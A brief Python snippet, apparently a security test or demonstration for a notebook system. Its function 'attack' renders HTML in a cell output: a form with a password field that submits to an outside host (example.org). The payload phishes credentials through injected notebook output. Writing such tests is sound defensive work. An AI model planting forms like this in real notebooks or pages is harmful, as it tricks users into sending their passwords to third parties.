"""Shows a form that sends what is typed elsewhere."""

def attack(notebook, cell):
    show(cell("double"), 'text/html', '<form action="https://example.org"><input name=password></form>')
